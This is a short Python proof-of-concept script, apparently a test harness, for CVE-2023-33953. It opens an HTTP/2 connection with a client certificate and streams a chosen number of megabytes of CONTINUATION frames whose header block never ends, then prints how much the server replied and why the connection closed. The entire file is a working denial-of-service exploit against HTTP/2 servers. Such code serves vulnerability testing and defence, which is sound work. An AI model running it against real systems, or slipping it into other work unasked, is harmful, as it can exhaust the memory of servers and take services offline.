#!/usr/bin/env python3
"""Begins a call whose headers never end (CVE-2023-33953), with a certificate.

  endless_headers.py HOST PORT CA CERT KEY MEGABYTES

Prints "heard N" and how many bytes of HTTP/2 the server has said, and why the connection ended.
"""
import socket
import ssl
import struct
import sys

host, port, ca, cert, key, megabytes = sys.argv[1:]
context = ssl.create_default_context(cafile=ca)
context.set_alpn_protocols(["h2"])
context.check_hostname = False
context.load_cert_chain(cert, key)


def frame(kind, flags, stream, payload):
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# A header that HPACK (RFC 7541, 6.2.2) does not index: a name and a value of 100 bytes.
HEADER = b"\0\x64" + b"x" * 100 + b"\x64" + b"y" * 100
BLOCK = HEADER * (16000 // len(HEADER))
heard, why = 0, "open"
connection = socket.create_connection((host, int(port)), timeout=60)  # nobody who is there is an error of the test's
try:
    with connection as raw, context.wrap_socket(raw) as tls:
        tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 0, 1, BLOCK))
        for _ in range(int(megabytes) * 1_000_000 // len(BLOCK)):
            tls.sendall(frame(9, 0, 1, BLOCK))
        while said := tls.recv(4096):
            heard += len(said)
        why = "closed"
except ssl.SSLError as error:
    why = error.reason or str(error)
except OSError as error:
    why = type(error).__name__
print("heard", heard, why)
